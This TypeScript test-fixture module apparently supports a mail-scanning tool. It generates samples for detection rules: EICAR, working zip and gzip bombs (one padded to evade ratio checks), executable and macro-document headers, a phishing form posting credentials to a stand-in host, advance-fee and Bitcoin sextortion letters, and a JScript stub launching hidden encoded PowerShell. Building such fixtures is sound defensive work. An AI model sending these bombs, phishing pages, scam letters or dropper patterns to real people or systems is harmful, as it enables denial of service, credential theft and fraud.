import { randomBytes } from 'node:crypto'
import { once } from 'node:events'
import { createGzip, gzipSync } from 'node:zlib'
import MailComposer from 'nodemailer/lib/mail-composer'
import type { MailComposerAttachment } from 'nodemailer/lib/mail-composer'
import { BlobReader, TextReader, Uint8ArrayReader, Uint8ArrayWriter, ZipWriter, configure } from '@zip.js/zip.js'
import { pack } from 'tar-stream'

// Test samples, built here so that no malware (and not even the EICAR file) sits in the
// repository: each is the smallest thing that has the trait a rule looks for.

configure({ useWebWorkers: false, useCompressionStream: false })

/** The EICAR anti-virus test file (68 bytes), assembled from its two halves. */
export function eicar(): string {
  return ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-', 'TEST-FILE!$H+H*'].join('')
}

/** An attachment: name, content and optionally its declared content type. */
export interface Attachment {
  filename: string
  content: Buffer | string
  contentType?: string
}

/** A MIME message built with nodemailer's MailComposer, as CRLF text. */
export async function mimeMessage(opts: {
  from?: string
  to?: string
  subject?: string
  text?: string
  html?: string
  attachments?: (Attachment | MailComposerAttachment)[]
  headers?: Record<string, string | string[]>
}): Promise<string> {
  const mail = new MailComposer({
    from: opts.from ?? 'alice@customer.test',
    to: opts.to ?? 'bob@remote.test',
    subject: opts.subject ?? 'sample',
    text: opts.text ?? 'Hello,\r\nplease find the file attached.\r\n',
    ...(opts.html ? { html: opts.html } : {}),
    attachments: opts.attachments ?? [],
    headers: opts.headers ?? {},
  })
  const raw = await new Promise<Buffer>((resolve, reject) => mail.compile().build((err, out) => (err ? reject(err) : resolve(out))))
  return raw.toString('latin1')
}

/** One zip member; a password encrypts it (AES-256, or ZipCrypto with `zipCrypto`). */
export interface ZipMember {
  name: string
  content: Buffer | string
  password?: string
  zipCrypto?: boolean
}

/** A zip archive made with zip.js. */
export async function zip(members: ZipMember[]): Promise<Buffer> {
  const writer = new ZipWriter(new Uint8ArrayWriter())
  for (const m of members) {
    const reader = typeof m.content === 'string' ? new TextReader(m.content) : new Uint8ArrayReader(new Uint8Array(m.content))
    await writer.add(m.name, reader, m.password ? { password: m.password, zipCrypto: m.zipCrypto ?? false } : {})
  }
  return Buffer.from(await writer.close())
}

/** A zip bomb: one member of `mib` MiB of zeros, deflated to about a thousandth of that. */
export async function zipBomb(mib: number): Promise<Buffer> {
  const writer = new ZipWriter(new Uint8ArrayWriter())
  const chunk = new Uint8Array(1 << 20)
  const zeros = new Blob(Array.from({ length: mib }, () => chunk))
  await writer.add('zeros.bin', new BlobReader(zeros), { level: 9 })
  return Buffer.from(await writer.close())
}

/**
 * A bomb larger than 1 MiB on the wire: `mib` MiB of zeros (about a thousandth of that
 * compressed) and `cover` bytes of random data that do not compress, so a ratio judged only
 * on small archives misses it. As a zip (two members) or as a gzip stream (zeros first).
 */
export async function coveredBomb(kind: 'zip' | 'gzip', mib: number, cover: number): Promise<Buffer> {
  const noise = randomBytes(cover)
  if (kind === 'zip') {
    const writer = new ZipWriter(new Uint8ArrayWriter())
    await writer.add('photo.jpg', new Uint8ArrayReader(new Uint8Array(noise)), { level: 0 })
    const chunk = new Uint8Array(1 << 20)
    await writer.add('zeros.bin', new BlobReader(new Blob(Array.from({ length: mib }, () => chunk))), { level: 1 })
    return Buffer.from(await writer.close())
  }
  const gz = createGzip({ level: 1 })
  const chunks: Buffer[] = []
  gz.on('data', (c: Buffer) => chunks.push(c))
  const zeros = Buffer.alloc(1 << 20)
  for (let i = 0; i < mib; i++) if (!gz.write(zeros)) await once(gz, 'drain')
  gz.end(noise)
  await once(gz, 'end')
  return Buffer.concat(chunks)
}

/** A gzip bomb: `mib` MiB of zeros, compressed as a stream (never held in memory). */
export async function gzipBomb(mib: number): Promise<Buffer> {
  const gz = createGzip({ level: 9 })
  const chunks: Buffer[] = []
  gz.on('data', (c: Buffer) => chunks.push(c))
  const zeros = Buffer.alloc(1 << 20)
  for (let i = 0; i < mib; i++) if (!gz.write(zeros)) await once(gz, 'drain')
  gz.end()
  await once(gz, 'end')
  return Buffer.concat(chunks)
}

/** A gzip file. */
export function gzip(content: Buffer | string): Buffer {
  return gzipSync(content)
}

/** A tar archive made with tar-stream. */
export async function tar(members: { name: string; content: Buffer | string }[]): Promise<Buffer> {
  const archive = pack()
  const chunks: Buffer[] = []
  archive.on('data', (c: unknown) => chunks.push(c as Buffer))
  const done = new Promise<void>((resolve, reject) => {
    archive.on('end', resolve)
    archive.on('error', reject)
  })
  for (const m of members) archive.entry({ name: m.name }, typeof m.content === 'string' ? Buffer.from(m.content) : m.content)
  archive.finalize()
  await done
  return Buffer.concat(chunks)
}

/** A message nested `levels` deep: each level attaches the one below as message/rfc822. */
export async function nestedMessage(levels: number, innermost: string): Promise<string> {
  let msg = innermost
  for (let i = 1; i <= levels; i++) {
    msg = await mimeMessage({
      subject: `Fwd: level ${i}`,
      text: `Forwarded message, level ${i}.\r\n`,
      attachments: [{ filename: `level-${i}.eml`, content: msg, contentType: 'message/rfc822' }],
    })
  }
  return msg
}

/** The smallest Windows PE header: "MZ", e_lfanew at 0x3C, "PE\0\0". */
export function peExecutable(): Buffer {
  const b = Buffer.alloc(0x100)
  b.write('MZ', 0, 'latin1')
  b.writeUInt32LE(0x80, 0x3c)
  b.write('PE\0\0', 0x80, 'latin1')
  b.writeUInt16LE(0x14c, 0x84)
  return b
}

/** An ELF header (64-bit little-endian, x86-64). */
export function elfExecutable(): Buffer {
  const b = Buffer.alloc(64)
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]).copy(b)
  b.writeUInt16LE(2, 16)
  b.writeUInt16LE(0x3e, 18)
  return b
}

/** A Mach-O header (64-bit, x86-64). */
export function machoExecutable(): Buffer {
  const b = Buffer.alloc(32)
  b.writeUInt32LE(0xfeedfacf, 0)
  b.writeUInt32LE(0x01000007, 4)
  return b
}

/** A Windows shortcut header (the LNK magic and shell link CLSID). */
export function windowsShortcut(): Buffer {
  const b = Buffer.alloc(0x4c)
  b.writeUInt32LE(0x4c, 0)
  Buffer.from('0114020000000000c000000000000046', 'hex').copy(b, 4)
  return b
}

/** An ISO 9660 image: the "CD001" volume descriptor at 0x8001. */
export function isoImage(): Buffer {
  const b = Buffer.alloc(0x8800)
  b[0x8000] = 1
  b.write('CD001', 0x8001, 'latin1')
  return b
}

/** A OneNote section: its file-format GUID at offset 0. */
export function oneNote(): Buffer {
  const b = Buffer.alloc(64)
  Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex').copy(b)
  return b
}

/** An OLE2 compound file header carrying a VBA project, as in a .doc with macros. */
export function oleWithMacros(): Buffer {
  const b = Buffer.alloc(1024)
  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(b)
  b.write('_VBA_PROJECT', 512, 'utf16le')
  b.write('Attribute VB_Name = "ThisDocument"', 700, 'latin1')
  return b
}

/** A macro-enabled Word document: a zip with word/vbaProject.bin. */
export async function docm(): Promise<Buffer> {
  const types =
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
    '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
  return zip([
    { name: '[Content_Types].xml', content: types },
    { name: 'word/document.xml', content: '<w:document/>' },
    { name: 'word/vbaProject.bin', content: oleWithMacros() },
  ])
}

/** HTML with a form that posts a password to a web site. */
export function phishingHtml(): string {
  return (
    '<html><body><p>Your mailbox is full. Log in to keep your messages.</p>' +
    '<form method="post" action="https://mailbox-upgrade.example/login.php">' +
    '<input type="text" name="email"><input type="password" name="pass"><input type="submit" value="Log in">' +
    '</form></body></html>'
  )
}

/** An advance-fee ("419") letter. */
export function advanceFeeText(): string {
  return [
    'Dear Friend,',
    'I am a barrister and the personal attorney of my late client, who died without a will.',
    'You have been chosen as the next of kin and beneficiary of his inheritance of 10.5 million US dollars.',
    'I need your urgent response so that we can start the transfer of the fund; you keep 40% of the total fund.',
    'This matter is strictly confidential.',
  ].join('\r\n')
}

/** A Bitcoin extortion letter. */
export function cryptoScamText(): string {
  return [
    'I recorded you through your webcam while you were browsing.',
    'Send 1500 USD in Bitcoin to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh within 48 hours,',
    'or the video goes to all your contacts.',
  ].join('\r\n')
}

/** A JScript dropper: runs a downloaded program through Windows Script Host. */
export function scriptDropper(): string {
  return [
    'var shell = new ActiveXObject("WScript.Shell");',
    'shell.Run("powershell -w hidden -enc SQBFAFgA");',
  ].join('\r\n')
}
